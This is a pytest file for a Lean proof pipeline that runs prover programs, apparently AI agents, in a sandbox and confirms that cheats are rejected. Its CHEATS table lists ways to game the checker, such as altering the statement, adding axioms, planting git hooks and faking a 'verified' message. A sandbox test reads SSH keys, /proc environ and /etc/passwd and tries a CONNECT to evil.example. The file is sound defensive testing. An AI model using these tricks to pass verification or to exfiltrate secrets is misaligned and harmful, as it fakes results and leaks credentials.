"""Programs that prove, before Lean itself: those that cheat, and those that do not. Each runs in a real sandbox."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from pipeline.endpoint.spending import Spending
from pipeline.jobs.protocol import JobError
from pipeline.jobs.specs import Budget, EarlierAttempt, ProgramSpec
from pipeline.lean.backend import Sandbox
from pipeline.prove import programs
from pipeline.prove.declaration import WholeProofMethod
from pipeline.prove.effort import Attempt
from pipeline.prove.programs import ProgramAuthor, Usage
from pipeline.prove.rungs import Engine, ModelHealth, WatchedAuthor, ladder
from store.events.proofs import ProofVerified
from tests.support.chat_server import ChatServer, Says
from tests.support.gate import Case, GateProject
from tests.support.prove import FILE, Searches
from tests.support.trace import lean_itself

EXAMPLES = Path(__file__).parents[2] / "examples" / "programs"
SOURCE = """theorem helper (p : Prop) (h : p) : p := h

theorem target (p q : Prop) (h : p ∧ q) : q ∧ p := by
  sorry

theorem other (p : Prop) : p → p := fun h => h
"""
KEY, SECRET = "key-of-the-program-1234", "what-is-on-the-host-5678"
FILLS = "sed -i 's/^  sorry/  exact ⟨h.2, h.1⟩/' A.lean"

Tries = Callable[..., Attempt]


@pytest.fixture(scope="module")
def lean(real_lean: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Searches]:
    with Searches(tmp_path_factory.mktemp("lean"), lean_itself(real_lean)) as made:
        yield made


@pytest.fixture
def tries(lean: Searches, real_lean: Path, tmp_path: Path, bubblewrap: None) -> Tries:
    """Run a program, or the shell script of this text, on the sorry of a file; return the attempt."""
    worktree, scratch = tmp_path / "worktree", tmp_path / "scratch"
    worktree.mkdir()
    scratch.mkdir()

    def run(
        body: str | list[str],
        *,
        source: str = SOURCE,
        seconds: float = 60,
        repairs: int = 0,
        sandbox: Sandbox = "bubblewrap",
        key_variable: str = "AGENT_KEY",
        **given: Any,
    ) -> Attempt:
        if isinstance(body, str):
            script = tmp_path / "program"
            script.write_text(f"#!/bin/sh\n{body}\n", "utf-8")
            script.chmod(0o755)
            body = [str(script)]
        (worktree / FILE).write_text(source, "utf-8")
        before = contents(worktree)
        author = ProgramAuthor(
            ProgramSpec(name="agent", run=tuple(body), seconds=seconds, key_variable=key_variable, **given),
            backend=lean_itself(real_lean, sandbox=sandbox),
            worktree=worktree,
            project=worktree,
            scratch=scratch,
            key=KEY,
            earlier={
                (FILE, source.encode().index(b"sorry")): [
                    EarlierAttempt("tactics, rung 0", "exhausted", "", [])
                ]
            },
        )
        watched = WatchedAuthor(author, ModelHealth(alone=False))
        engine = Engine(
            ladder().propose, wholly=WholeProofMethod(watched, 1, repairs, verbatim=True), again=False
        )
        budget = Budget(nodes=20, seconds=seconds, tactic_timeout_s=20)
        attempt = lean.attempt(source, engine, budget=budget)["target"]
        assert contents(worktree) == before, "what the program does stays in its own copy"
        assert list(scratch.iterdir()) == []
        assert KEY not in attempt.detail + attempt.effort.best
        return attempt

    return run


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


COUNTED = "more than the sorry of target changed"
CHEATS: dict[str, tuple[str, str]] = {
    "changes its statement": (
        "sed -i 's/: q ∧ p := by/: p ∧ q := by/; s/^  sorry/  exact h/' A.lean",
        "the statement of target changed",
    ),
    "adds an axiom": (
        "sed -i '1i axiom cheat (p : Prop) : p\\n' A.lean; " + FILLS,
        f"{COUNTED}: axiom cheat (p : Prop) : p",
    ),
    "makes a macro": (
        "sed -i '1i macro \"cheat\" : tactic => `(tactic| sorry)\\n' A.lean; sed -i 's/^  sorry/  cheat/' A.lean",
        f"{COUNTED}: macro",
    ),
    "makes another theorem easy to cite": (
        "sed -i 's/(h : p) : p := h/: p := sorry/; s/^  sorry/  exact helper _/' A.lean",
        f"{COUNTED}: theorem helper (p : Prop) (h : p) : p := h, theorem helper (p : Prop) : p := sorry",
    ),
    "adds an option to the command": (
        "sed -i 's/^theorem target/set_option debug.skipKernelTC true in\\n&/' A.lean; " + FILLS,
        "more of target than this sorry changed",
    ),
    "says sorry by another name": (
        "sed -i 's/^  sorry/  exact sorryAx _ true/' A.lean",
        "not allowed in a proof: the word sorryAx",
    ),
    "has code run": (
        "sed -i 's/^  sorry/  native_decide/' A.lean",
        "not allowed in a proof: the word native_decide",
    ),
    "ends the declaration to begin another": (
        "sed -i 's/^  sorry/  exact ⟨h.2, h.1⟩\\nunsafe def evil : Nat := 0/' A.lean",
        "not allowed in a proof",
    ),
    "edits another file and the lakefile": (
        "echo 'theorem magic (p : Prop) : p := sorry' | tee Magic.lean lakefile.toml;"
        + FILLS.replace("⟨", "magic ⟨"),
        "what else it changed counts for nothing: Magic.lean, lakefile.toml",
    ),
    "edits what was compiled": (
        "mkdir -p .lake/build/lib/lean; echo x > .lake/build/lib/lean/A.olean; sed -i 's/^  sorry/  trivial/' A.lean",
        "counts for nothing: .lake/build/lib/lean/A.olean",
    ),
    "leaves hooks of git": (
        "mkdir -p .git/hooks; echo 'touch /tmp/owned' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout",
        "counts for nothing: .git/hooks/post-checkout",
    ),
    "says that it was done": (
        'echo \'{"line": "result", "summary": {"found": 1}}\'; echo "0 goals, verified by the kernel"',
        "the sorry is still there",
    ),
    "puts a link in the file's place": (
        "rm A.lean; ln -s /etc/passwd A.lean",
        "A.lean is not what it was: a link",
    ),
    "puts a pipe in the file's place": (
        "rm A.lean; mkfifo A.lean",
        "A.lean is not what it was: no regular file",
    ),
    "puts too much in the file's place": ("head -c 20000000 /dev/zero > A.lean", "20000000 bytes, more than"),
    "writes what is no text": ("sed -i 's/^  sorry/  \\xff\\xfe/' A.lean", "no text"),
    "writes its key into the proof": (
        'sed -i "s/^  sorry/  exact $AGENT_KEY/" A.lean',
        "the text holds the program's key",
    ),
    "takes the sorry away": ("sed -i 's/^  sorry/  /' A.lean", "nothing stands in the sorry's place"),
    "imports more": ("sed -i '1i import Lean' A.lean; " + FILLS, "the header of the file changed"),
    "removes the file": ("rm A.lean", "A.lean is not what it was: No such file"),
}


@pytest.mark.parametrize("cheat", CHEATS)
def test_a_program_that_cheats_proves_nothing_and_the_attempt_says_why(cheat: str, tries: Tries) -> None:
    body, reason = CHEATS[cheat]
    attempt = tries(body)
    assert attempt.outcome == "exhausted"
    assert attempt.proof is None
    assert reason in f"{attempt.effort.best}; {attempt.detail}"


def test_a_program_sees_neither_the_host_nor_the_network_and_its_key_is_in_no_record(
    tries: Tries, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text(SECRET, "utf-8")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        attempt = tries(
            f"""cat {tmp_path}/secret /proc/*/environ ~/.ssh/* /etc/passwd | tail -c 900 | tr '\\0' ' '
            echo "open:" $(ls /proc/self/fd); touch {tmp_path}/made {Path.home()}/made /usr/made
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo REACHED'
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; head -c 99 <&3 & printf "$0" >&3; wait' \\
                'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' """,
            network=("allowed.example",),
        )
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "hosts that it was refused: evil.example:443 (not on the list of hosts)" in attempt.detail
    assert "AGENT_KEY=***" in attempt.detail
    assert "open: 0 1 2 3" in attempt.detail, "nothing of ours is left open to it"
    assert SECRET not in attempt.detail
    assert "REACHED" not in attempt.detail
    assert not (tmp_path / "made").exists()


def test_a_program_is_asked_to_end_at_its_time_and_then_ended_with_all_that_it_started(
    tries: Tries, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(programs, "GRACE_S", 0.5)
    attempt = tries(
        """setsid sh -c 'trap "" TERM; while :; do sleep 0.3127; done' &
        trap 'echo asked to end' TERM
        while :; do sleep 0.3127; done""",
        seconds=1.5,
    )
    assert attempt.outcome == "budget"
    assert "it ended with: no end after 1" in attempt.detail
    assert "asked to end" in attempt.detail
    left = [one.pid for one in psutil.process_iter(["cmdline"]) if "0.3127" in (one.info["cmdline"] or ())]
    assert left == []


def test_an_honest_program_gets_the_task_and_its_proof_passes_the_gate(tries: Tries, tmp_path: Path) -> None:
    attempt = tries(
        """cmp - "$EVERLEAN_TASK" && tr '\\n' ' ' < "$EVERLEAN_TASK"; echo
        echo 'everlean-usage: {"usd": 0.25, "prompt_tokens": 900, "completion_tokens": 80, "proved": true}'
        sed -i 's/^  sorry/  constructor -- both\\n  · exact h.2\\n  · exact h.1/' A.lean; echo > .notes""",
    )
    assert attempt.outcome == "found"
    assert attempt.proof is not None
    assert attempt.proof.replacement.text == "constructor -- both\n  · exact h.2\n  · exact h.1"
    assert isinstance(
        GateProject(tmp_path / "gate").judge(Case(attempt.proof.replacement.text), lean="credulous"),
        ProofVerified,
    )
    assert attempt.proof.tactics == ("constructor", "· exact h.2", "· exact h.1")
    cost = attempt.effort.cost
    assert (cost.usd, cost.prompt_tokens, cost.completion_tokens) == (0.25, 900, 80)
    assert "by its own account it cost $0.2500" in attempt.detail
    task = json.loads(attempt.detail.partition("it said: ")[2].partition("everlean-usage")[0])
    assert task["goal"] == "p q : Prop\nh : p ∧ q\n⊢ q ∧ p" or task["hypotheses"][-1] == "h : p ∧ q"
    assert (task["schema"], task["file"], task["line"], task["column"], task["mode"]) == (
        1,
        FILE,
        4,
        2,
        "tactic",
    )
    assert task["earlier"] == [{"by": "tactics, rung 0", "outcome": "exhausted", "text": "", "messages": []}]


def test_lean_s_messages_go_back_to_a_program_that_has_another_run(tries: Tries) -> None:
    attempt = tries(
        f"""if grep -q 'this program' "$EVERLEAN_TASK"; then grep -c 'rfl' "$EVERLEAN_TASK"; {FILLS}
        else sed -i 's/^  sorry/  rfl/' A.lean; fi""",
        repairs=1,
    )
    assert attempt.outcome == "found"
    assert attempt.effort.cost.usd is None, "no run said what it cost"


@pytest.mark.parametrize("source", [SOURCE, SOURCE.replace("by\n  sorry", "sorry")])
def test_the_shell_example_finds_what_a_single_tactic_proves(source: str, tries: Tries) -> None:
    attempt = tries([str(EXAMPLES / "try_tactics.sh")], source=source)
    assert attempt.outcome == "found", attempt.detail
    assert "taken: " in attempt.detail


def test_a_run_counts_what_the_settings_say_or_more_and_the_day_s_cap_ends_the_job(
    tries: Tries, tmp_path: Path
) -> None:
    money: dict[str, Any] = {"ledger": tmp_path / "spending.jsonl", "cap_usd": 2.0, "usd_per_run": 0.6}
    spending = Spending(ledger=money["ledger"])
    for says, spent in (
        ("", 0.6),
        ('everlean-usage: {"usd": 0.01}', 1.2),
        ('everlean-usage: {"usd": 0.7}', 1.9),
    ):
        tries(f"echo '{says}'", **money)
        assert spending.spent_usd() == pytest.approx(spent)
    with pytest.raises(ExceptionGroup) as caught:
        tries("touch ran", **money)
    assert caught.group_contains(JobError, match="leaves no room: .1.9000 are spent")


@pytest.mark.parametrize(
    ("text", "usage"),
    [
        ('{"usd": 1, "prompt_tokens": 2.0}', Usage(1.0, 2, None)),
        ('{"usd": -1, "prompt_tokens": "many", "completion_tokens": true}', Usage()),
        ('{"usd": NaN, "prompt_tokens": 1e999}', Usage()),
        ("[" * 100_000, Usage()),
        ("5", Usage()),
    ],
)
def test_of_what_a_program_says_that_it_used_only_plain_numbers_are_kept(text: str, usage: Usage) -> None:
    assert Usage.read(text) == usage


def test_a_program_that_fails_by_itself_ends_in_an_error_with_what_it_said(tries: Tries) -> None:
    attempt = tries("echo 'no route to the model'; exit 3")
    assert attempt.outcome == "error"
    assert "it ended with: exit status 3" in attempt.detail
    assert "it said: no route to the model" in attempt.detail


def test_a_program_that_is_not_there_fails_the_job(tries: Tries) -> None:
    with pytest.raises(JobError, match="the program no-such-agent is not there on PATH"):
        tries(["no-such-agent"])


def test_the_client_example_sends_lean_s_messages_to_an_endpoint_and_keeps_what_lean_takes(
    tries: Tries,
) -> None:
    said = (
        Says(["```lean\nexact h\n```"]),
        Says(["Sorry. ```lean\nconstructor\n· exact h.2\n· exact h.1\n```"]),
    )
    with ChatServer(said) as server:
        attempt = tries(
            [
                str(EXAMPLES / "ask_endpoint.py"),
                "--url",
                server.url,
                "--model",
                "m",
                "--usd-per-million",
                "1",
                "2",
            ],
            sandbox="none",
            key_variable="OPENAI_API_KEY",
        )
        asked = server.requests
    assert attempt.outcome == "found", attempt.detail
    assert attempt.proof is not None
    assert attempt.proof.replacement.text == "constructor\n  · exact h.2\n  · exact h.1"
    assert asked[0].authorization == f"Bearer {KEY}"
    assert "type mismatch" in asked[1].body["messages"][-1]["content"].lower()
    assert attempt.effort.cost.usd == pytest.approx(2 * (10 + 2 * 5) / 1e6)
